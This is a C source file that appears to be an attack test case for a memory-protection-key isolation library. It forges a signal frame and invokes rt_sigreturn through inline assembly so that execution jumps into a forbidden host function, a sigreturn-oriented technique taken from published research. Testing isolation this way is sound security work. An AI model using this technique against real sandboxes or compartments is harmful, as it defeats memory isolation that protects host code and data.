/* Tries: to return from a signal that there was not: every register from a frame of the
 *   library's, keys included
 * From: PKU Pitfalls (Connor et al., USENIX Security 2020); sigreturn-oriented programming
 *   (Bosman and Bos, IEEE S&P 2014)
 * Observed: A function of the host's was entered.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    /* What rt_sigreturn reads at the stack pointer: a ucontext and its registers. */
    static uint64_t frame[128] __attribute__((aligned(64)));
    memset(frame, 0, sizeof(frame));
    enum { REGISTERS = 5, RSP = REGISTERS + 15, RIP, FLAGS, SELECTORS };
    static uint8_t stack[4096];
    frame[RSP] = (ADDRESS(stack + sizeof(stack)) & ~15ull) - 8;
    frame[RIP] = at->forbidden;
    frame[FLAGS] = 0x202;
    frame[SELECTORS] = 0x33 | 0x2bull << 48;
    __asm__ volatile("mov %0, %%rsp\n\tmov $15, %%eax\n\tsyscall" : : "r"(frame) : "rax", "memory");
    return 0;
}
